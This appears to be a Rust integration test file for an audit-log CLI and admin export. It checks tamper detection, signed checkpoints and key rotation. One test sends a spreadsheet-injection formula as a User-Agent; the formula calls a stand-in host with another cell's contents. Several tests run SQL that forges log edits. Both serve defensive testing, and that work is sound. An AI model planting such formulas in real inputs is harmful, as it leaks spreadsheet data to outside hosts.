//! `lifeline audit verify`, `checkpoint` and `export`, and `lifeline rotate-key`, through
//! the real binary.

use domain::testing::{Forgery, TestDatabase, fresh_databases};
use reqwest::{StatusCode, header};

use crate::support::{
    cli::{cli, cli_with, create_org, create_user},
    client::{SecondFactor, client, sign_in, sign_in_with},
    process::Server,
};

/// Events #2 to #`last` of Acme's chain (organization 1; #1 is its creation), appended as
/// the application appends them.
async fn append_events(database: &TestDatabase, last: i64) {
    let owner = domain::accounts::member(&database.db, 1)
        .await
        .unwrap()
        .unwrap();
    for n in 2..=last {
        domain::audit::record(
            &database.db,
            owner.org_id,
            domain::audit::Event {
                action: domain::audit::AuditAction::MemberUnlocked,
                actor: Some(&owner),
                target: None,
                outcome: domain::audit::Outcome::Success,
                details: serde_json::json!({ "n": n }),
            },
            &domain::audit::Source::default(),
            chrono::Utc::now(),
        )
        .await
        .unwrap();
    }
}

#[tokio::test]
async fn audit_verify_passes_an_intact_log_and_names_the_altered_event() {
    for database in fresh_databases().await {
        let database = database.migrated().await;
        create_org(&database.url, "Acme", "owner@acme.test").await;
        // Three events, appended as the application appends them.
        let owner = domain::accounts::member(&database.db, 1)
            .await
            .unwrap()
            .unwrap();
        for i in 0..3 {
            domain::audit::record(
                &database.db,
                owner.org_id,
                domain::audit::Event {
                    action: domain::audit::AuditAction::MemberUnlocked,
                    actor: Some(&owner),
                    target: None,
                    outcome: domain::audit::Outcome::Success,
                    details: serde_json::json!({ "n": i, "text": "comma, \"quote\"" }),
                },
                &domain::audit::Source::default(),
                chrono::Utc::now(),
            )
            .await
            .unwrap();
        }

        let (ok, stdout, stderr) =
            cli(&database.url, &["audit", "verify", "--org", "acme"], "").await;
        assert!(ok, "{stderr}");
        // Creating the organization was the first event.
        assert!(stdout.contains("is intact: 4 events"), "{stdout}");

        let (ok, jsonl, stderr) = cli(
            &database.url,
            &[
                "audit",
                "export",
                "--org",
                "acme",
                "--format",
                "jsonl",
                "--since",
                "2026-01-01",
            ],
            "",
        )
        .await;
        assert!(ok, "{stderr}");
        let events: Vec<serde_json::Value> = jsonl
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        assert_eq!(events.len(), 4);
        assert_eq!(events[0]["action"], "organization.created");
        assert_eq!(events[3]["seq"], 4);
        let (ok, csv, _) = cli(
            &database.url,
            &["audit", "export", "--org", "acme", "--format", "csv"],
            "",
        )
        .await;
        assert!(ok);
        assert!(csv.starts_with(domain::audit::CSV_HEADER));
        assert_eq!(csv.lines().count(), 5);

        // Bad arguments: one line, non-zero.
        for args in [
            vec!["audit", "export", "--org", "acme", "--format", "xml"],
            vec!["audit", "export", "--org", "acme", "--since", "yesterday"],
            vec!["audit", "verify", "--org", "nowhere"],
        ] {
            let (ok, _, stderr) = cli(&database.url, &args, "").await;
            assert!(!ok, "{args:?}");
            assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
        }

        // Someone edits event #2 in the database: verify names it and fails.
        database
            .execute("UPDATE audit_event SET details = '{\"n\":99}' WHERE seq = 2")
            .await;
        let (ok, _, stderr) = cli(&database.url, &["audit", "verify", "--org", "acme"], "").await;
        assert!(!ok);
        assert!(stderr.contains("event #2"), "{stderr}");
        assert!(stderr.contains("was altered"), "{stderr}");
    }
}

#[tokio::test]
async fn the_export_download_is_for_owners_and_admins_and_refuses_bad_filters() {
    let database = domain::testing::TestDatabase::sqlite().await;
    create_org(&database.url, "Acme", "owner@acme.test").await;
    create_user(&database.url, "acme", "m@acme.test", "member").await;
    let server = Server::start(&database.url).await;
    let client = client();
    let owner = sign_in(&client, &server, "owner@acme.test").await;
    let member = sign_in(&client, &server, "m@acme.test").await;
    let get = |session: Option<String>, query: &'static str| {
        let mut request = client.get(server.url(&format!("/admin/audit/export?{query}")));
        if let Some(id) = session {
            request = request.header(header::COOKIE, format!("lifeline_session={id}"));
        }
        request.send()
    };

    let csv = get(Some(owner.clone()), "format=csv&action=member.")
        .await
        .unwrap();
    assert_eq!(csv.status(), StatusCode::OK);
    assert_eq!(
        csv.headers().get(header::CACHE_CONTROL).unwrap(),
        "no-store"
    );
    let text = csv.text().await.unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], domain::audit::CSV_HEADER);
    assert_eq!(lines.len(), 2, "{text}");
    assert!(lines[1].contains(",member.added,m@acme.test,"), "{text}");

    let jsonl = get(Some(owner.clone()), "format=jsonl").await.unwrap();
    assert_eq!(jsonl.status(), StatusCode::OK);
    let count = jsonl.text().await.unwrap().lines().count();
    assert!(count >= 2, "every event so far: {count}");

    for (session, query, status) in [
        (None, "format=csv", StatusCode::UNAUTHORIZED),
        (Some(member.clone()), "format=csv", StatusCode::FORBIDDEN),
        (Some(owner.clone()), "format=xml", StatusCode::BAD_REQUEST),
        (
            Some(owner.clone()),
            "from=yesterday",
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        (
            Some(owner.clone()),
            "outcome=maybe",
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
    ] {
        let response = get(session, query).await.unwrap();
        assert_eq!(response.status(), status, "{query}");
        let body = response.text().await.unwrap();
        assert!(!body.to_lowercase().contains("sql"), "{body}");
    }
}

/// A user agent is anyone's to choose, with no credentials but a member's email: one that a
/// spreadsheet would evaluate lands in the CSV exports as text, and verbatim in JSON lines.
#[tokio::test]
async fn a_formula_sent_as_a_user_agent_is_exported_as_text() {
    const FORMULA: &str = "=HYPERLINK(\"http://x.invalid/?\"&A2,\"Verify\")";
    for database in fresh_databases().await {
        create_org(&database.url, "Acme", "owner@acme.test").await;
        let server = Server::start(&database.url).await;
        let client = client();
        let step1 = client
            .post(server.url("/api/sign_in/email"))
            .header(header::ACCEPT, "application/json")
            .header(header::USER_AGENT, FORMULA)
            .form(&[("email", "owner@acme.test")])
            .send()
            .await
            .unwrap();
        let (id, _) = crate::support::client::session_cookie(&step1).unwrap();
        let refused = client
            .post(server.url("/api/sign_in/password"))
            .header(header::ACCEPT, "application/json")
            .header(header::USER_AGENT, FORMULA)
            .header(header::COOKIE, format!("lifeline_session={id}"))
            .form(&[("password", "not the password")])
            .send()
            .await
            .unwrap();
        assert!(refused.status().is_client_error());

        let session = sign_in(&client, &server, "owner@acme.test").await;
        let export = |format: &'static str| {
            let (client, session) = (&client, &session);
            let url = server.url(&format!("/admin/audit/export?format={format}"));
            async move {
                client
                    .get(url)
                    .header(header::COOKIE, format!("lifeline_session={session}"))
                    .send()
                    .await
                    .unwrap()
                    .text()
                    .await
                    .unwrap()
            }
        };
        let csv = export("csv").await;
        assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
        for line in csv.lines() {
            assert!(!line.contains(",=") && !line.contains(",\"="), "{line}");
        }
        let jsonl = export("jsonl").await;
        let agent = serde_json::to_string(FORMULA).unwrap();
        assert!(
            jsonl.contains(&agent),
            "JSON lines keep it verbatim: {jsonl}"
        );
        let (ok, cli_csv, stderr) = cli(
            &database.url,
            &["audit", "export", "--org", "acme", "--format", "csv"],
            "",
        )
        .await;
        assert!(ok, "{stderr}");
        assert!(cli_csv.contains("\"'=HYPERLINK("), "{cli_csv}");
    }
}

/// A tampering: its name, its SQL on Acme's five events, where the links are recomputed from
/// (and how), and what `verify` then says.
type Tampering = (
    &'static str,
    &'static [&'static str],
    (i64, Forgery),
    &'static str,
);

/// Someone who can write to the database, but does not hold the server's key, tampers with
/// the log and recomputes the links after it (plain SHA-256, the only links they can
/// compute): `lifeline audit verify` names each, and exits non-zero.
#[tokio::test]
async fn audit_verify_names_what_a_forger_without_the_key_did() {
    let tamperings: [Tampering; 5] = [
        (
            "edit",
            &["UPDATE audit_event SET details = '{\"n\":99}' WHERE seq = 3"],
            (3, Forgery::KeepKeyVersions),
            "event #3 (id 3) was altered",
        ),
        (
            "delete",
            &[
                "DELETE FROM audit_event WHERE seq = 3",
                "UPDATE audit_event SET seq = -seq WHERE seq > 3",
                "UPDATE audit_event SET seq = -seq - 1 WHERE seq < 0",
            ],
            (3, Forgery::KeepKeyVersions),
            "event #3 (id 4) was altered",
        ),
        (
            "truncate",
            &["DELETE FROM audit_event WHERE seq > 3"],
            (3, Forgery::KeepKeyVersions),
            "event #3 (id 3) was altered",
        ),
        (
            "reorder",
            &[
                "UPDATE audit_event SET seq = -1 WHERE seq = 2",
                "UPDATE audit_event SET seq = 2 WHERE seq = 4",
                "UPDATE audit_event SET seq = 4 WHERE seq = -1",
            ],
            (2, Forgery::KeepKeyVersions),
            "event #2 (id 4) was altered",
        ),
        (
            "downgrade to plain hashes",
            &[],
            (1, Forgery::Downgrade),
            "event #1 (id 1) carries a plain hash",
        ),
    ];
    for (what, sql, (from, forgery), named) in tamperings {
        for database in fresh_databases().await {
            let database = database.migrated().await;
            create_org(&database.url, "Acme", "owner@acme.test").await;
            append_events(&database, 5).await;
            for statement in sql {
                database.execute(statement).await;
            }
            database.forge_plain_links(1, from, forgery).await;
            let (ok, stdout, stderr) =
                cli(&database.url, &["audit", "verify", "--org", "acme"], "").await;
            assert!(!ok, "{what}: {stdout}");
            assert!(
                stderr.contains("the audit log of “Acme” is broken") && stderr.contains(named),
                "{what}, {:?}: {stderr}",
                database.backend
            );
        }
    }
}

/// A checkpoint kept outside the database shows that the log was cut back, even when the
/// chain's head was moved back to match and the stored checkpoints deleted, which the chain
/// alone cannot show.
#[tokio::test]
async fn a_checkpoint_kept_outside_shows_a_cut_back_log() {
    for database in fresh_databases().await {
        let database = database.migrated().await;
        create_org(&database.url, "Acme", "owner@acme.test").await;
        append_events(&database, 6).await;
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("checkpoint.json");
        let file = file.to_str().unwrap();

        let (ok, stdout, stderr) = cli(
            &database.url,
            &["audit", "checkpoint", "--org", "acme", "--out", file],
            "",
        )
        .await;
        assert!(ok, "{stderr}");
        assert!(stdout.contains("at event #6"), "{stdout}");
        let held: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
        assert_eq!(
            (&held["org"], &held["seq"], &held["key_version"]),
            (&"acme".into(), &6.into(), &1.into())
        );
        assert_eq!(held["public_key"].as_str().unwrap().len(), 64);
        assert_eq!(held["signature"].as_str().unwrap().len(), 128);
        // On standard output without --out: the same head, signed again.
        let (ok, json, _) = cli(&database.url, &["audit", "checkpoint", "--org", "acme"], "").await;
        assert!(ok);
        let again: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(
            (&again["seq"], &again["hash"]),
            (&held["seq"], &held["hash"])
        );

        let against = ["audit", "verify", "--org", "acme", "--against", file];
        let (ok, stdout, stderr) = cli(&database.url, &against, "").await;
        assert!(ok, "{stderr}");
        assert!(
            stdout.contains("is intact: 6 events") && stdout.contains("event #6 is the one"),
            "{stdout}"
        );

        // Cut back to #4; the head moved to #4's own link; the stored checkpoints deleted.
        database
            .execute("DELETE FROM audit_event WHERE seq > 4")
            .await;
        database
            .execute(
                "UPDATE audit_chain_head SET seq = 4, hash = (SELECT hash FROM audit_event \
                 WHERE seq = 4)",
            )
            .await;
        database.execute("DELETE FROM audit_checkpoint").await;
        let (ok, stdout, _) = cli(&database.url, &["audit", "verify", "--org", "acme"], "").await;
        assert!(ok, "the chain alone cannot show a cut: {stdout}");
        let (ok, _, stderr) = cli(&database.url, &against, "").await;
        assert!(!ok);
        assert!(
            stderr.contains("event #6, which a signed checkpoint vouched for, is gone")
                && stderr.contains("cut back to #4"),
            "{:?}: {stderr}",
            database.backend
        );

        // A checkpoint altered after signing, or no checkpoint at all, is refused in one line.
        let mut altered = held.clone();
        altered["seq"] = 3.into();
        std::fs::write(file, altered.to_string()).unwrap();
        let (ok, _, stderr) = cli(&database.url, &against, "").await;
        assert!(!ok);
        assert!(stderr.contains("signature does not verify"), "{stderr}");
        std::fs::remove_file(file).unwrap();
        let (ok, _, stderr) = cli(&database.url, &against, "").await;
        assert!(!ok);
        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
    }
}

/// `lifeline rotate-key` on the key file a running server reads: the TOTP secrets are
/// re-sealed under the new version, the server (not restarted) still signs the member in
/// with their authenticator and links new events under the new version, and the log, old
/// links and new, verifies.
#[tokio::test]
async fn rotate_key_reseals_secrets_and_a_running_server_takes_the_new_version_up() {
    for database in fresh_databases().await {
        let folder = tempfile::tempdir().unwrap();
        let key_file = folder.path().join("secret.key");
        crate::support::process::write_test_key(folder.path());
        std::fs::rename(folder.path().join("data/secret.key"), &key_file).unwrap();
        let key_file = key_file.to_str().unwrap();
        let vars = [
            ("DATABASE_URL", database.url.as_str()),
            ("LIFELINE_SECRET_KEY_FILE", key_file),
        ];
        create_org(&database.url, "Acme", "owner@acme.test").await;
        let key = domain::testing::secret_key();
        let enrolment = domain::mfa::begin_enrolment(&database.db, &key, 1)
            .await
            .unwrap();
        let now = chrono::Utc::now();
        let code = domain::mfa::code_at(&enrolment.setup_key, now).unwrap();
        domain::mfa::confirm_enrolment(
            &database.db,
            &key,
            1,
            &code,
            &domain::audit::Source::default(),
            now,
        )
        .await
        .unwrap();
        let server = Server::start_with(&vars).await;

        let (ok, stdout, stderr) = cli_with(&vars, &["rotate-key"], "").await;
        assert!(ok, "{stderr}");
        assert!(
            stdout.contains("Added secret key version 2. Re-sealed 1 TOTP secrets"),
            "{stdout}"
        );
        let text = std::fs::read_to_string(key_file).unwrap();
        assert!(
            text.starts_with(&format!("v1:{}\nv2:", domain::testing::TEST_SECRET_KEY)),
            "the old version stays: {text}"
        );
        let mode = std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(key_file).unwrap().permissions(),
        );
        assert_eq!(mode & 0o777, 0o600);

        let next = domain::mfa::code_at(&enrolment.setup_key, now + chrono::Duration::seconds(30))
            .unwrap();
        sign_in_with(
            &client(),
            &server,
            "owner@acme.test",
            SecondFactor::AuthenticatorCode(&next),
        )
        .await;
        let newest: i32 = sea_orm::ConnectionTrait::query_one(
            &database.db,
            sea_orm::Statement::from_string(
                sea_orm::ConnectionTrait::get_database_backend(&database.db),
                "SELECT key_version FROM audit_event ORDER BY seq DESC LIMIT 1",
            ),
        )
        .await
        .unwrap()
        .unwrap()
        .try_get("", "key_version")
        .unwrap();
        assert_eq!(newest, 2, "{:?}", database.backend);
        let (ok, stdout, stderr) = cli_with(&vars, &["audit", "verify", "--org", "acme"], "").await;
        assert!(ok && stdout.contains("is intact"), "{stdout}{stderr}");
    }
}
